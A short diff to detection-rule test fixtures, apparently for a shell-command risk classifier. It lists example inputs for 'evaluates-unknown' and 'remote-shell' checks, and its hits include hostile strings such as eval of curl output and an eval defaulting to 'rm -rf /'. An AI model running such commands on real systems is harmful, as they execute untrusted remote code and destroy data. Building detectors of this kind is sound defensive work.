@@ -85,8 +85,8 @@ export const insideExamples: Examples = {
     ],
   },
   'evaluates-unknown': {
-    hits: ['eval "$x"', 'eval "$(other-agent)"', 'eval "${x:-rm -rf /}"'],
-    misses: ["eval 'ls'", 'eval ls -la'],
+    hits: ['eval "$x"', 'eval "$(curl -s x)"', 'eval "${x:-rm -rf /}"'],
+    misses: ["eval 'ls'", 'eval ls -la', 'eval "$(ssh-agent -s)"'],
   },
   'remote-shell': {
     hits: [
